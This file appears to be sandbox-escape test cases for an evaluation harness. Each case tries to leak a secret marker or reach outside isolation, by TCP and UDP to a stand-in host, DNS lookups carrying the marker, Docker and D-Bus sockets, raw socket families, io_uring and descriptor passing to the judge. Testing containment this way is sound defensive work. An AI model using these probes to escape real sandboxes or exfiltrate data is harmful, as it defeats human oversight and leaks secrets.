# Asks somebody else for the password, or tells somebody else what it has seen.
# only: arena/vault.py
# deserves: password 0 wrong
# needs: reduced

# %% tcp
# A TCP connection to another machine, and a port for others to come in.
import socket


def password():
    for address in ("127.0.0.1", "192.0.2.1", "::1"):
        try:
            socket.create_connection((address, 80), timeout=0.1)
            return won()
        except OSError:
            pass
    try:
        socket.create_server(("127.0.0.1", 0))
        return won()
    except OSError:
        return MARKER


# %% udp
# Datagrams, to a name server too.
import socket


def password():
    for address in (("192.0.2.1", 53), ("127.0.0.1", 53), ("255.255.255.255", 9)):
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(MARKER.encode(), address)
            return won()
        except OSError:
            pass
    return MARKER


# %% dns
# A name whose look-up would carry out what it found.
import socket


def password():
    try:
        socket.getaddrinfo(f"{MARKER}.example.org", 80)
        return won()
    except OSError:
        return MARKER


# %% unix_sockets
# Sockets by path and by abstract name, pairs of sockets, and the processes behind them.
import socket


def password():
    for name in ("\0tinytorch", "/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                made = socket.socket(socket.AF_UNIX, kind)
                made.bind(f"\0{MARKER}")
                made.connect(name)
                return won()
            except OSError:
                pass
    return MARKER


# %% raw_netlink_and_others
# Kinds of sockets that are easily forgotten, and io_uring, which makes sockets without asking for one.
import ctypes
import socket


def password():
    for kind in range(1, 46):
        for type_ in (1, 2, 3, 5):
            try:
                socket.socket(kind, type_).close()
                return won()
            except OSError:
                pass
    room = ctypes.create_string_buffer(512)
    return won() if ctypes.CDLL(None).syscall(425, 8, room) >= 0 else MARKER


# %% descriptor_over_the_channel
# Sends a descriptor of its own to the judge, over the channel.
import array
import os
import socket


def password():
    for descriptor in range(3, 8):
        try:
            channel = socket.socket(fileno=os.dup(descriptor))
            channel.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
            return won()
        except OSError:
            pass
    return MARKER
